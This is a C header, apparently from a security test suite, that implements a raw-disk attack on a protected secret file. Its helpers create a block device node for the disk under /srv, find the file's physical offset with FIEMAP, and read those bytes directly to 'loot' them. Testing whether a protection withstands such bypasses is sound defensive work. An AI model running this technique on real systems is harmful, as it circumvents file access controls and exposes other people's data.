/* SPDX-License-Identifier: GPL-3.0-or-later */
/* For attacks on the disk that the labelled files lie on. */
#ifndef PHIWARD_DISK_H
#define PHIWARD_DISK_H

#include "attack.h"
#include <linux/fiemap.h>
#include <linux/fs.h>

/* Makes the node of the disk under the tree. */
AT_UNUSED static int disk_node(const char *path)
{
	struct stat st;

	if (stat("/srv", &st) < 0)
		return broken("stat");
	return mknod(path, S_IFBLK | 0600, st.st_dev) < 0 ? refused("mknod") : 0;
}

/* Where on the disk the secret lies, kept while that may still be asked. */
AT_UNUSED static int keep_offset(void)
{
	struct {
		struct fiemap map;
		struct fiemap_extent extent[1];
	} ask = { .map = {
			  .fm_length = 4096, .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1 } };
	char text[32];
	int fd = open(SECRET, O_RDONLY);

	if (fsync(fd) < 0 || ioctl(fd, FS_IOC_FIEMAP, &ask) < 0 || ask.map.fm_mapped_extents != 1)
		return broken("fiemap");
	snprintf(text, sizeof(text), "%llu", (unsigned long long)ask.extent[0].fe_physical);
	return put_file(own("offset"), text, 0666);
}

AT_UNUSED static int loot_disk(int fd)
{
	char text[32];
	void *buf;

	if (get_file(own("offset"), text, sizeof(text)) < 0 || posix_memalign(&buf, 4096, 4096))
		return broken("offset");
	if (pread(fd, buf, 4096, (off_t)at_number(text)) < 0)
		return refused("pread");
	return loot(buf, 4096);
}

#endif /* PHIWARD_DISK_H */
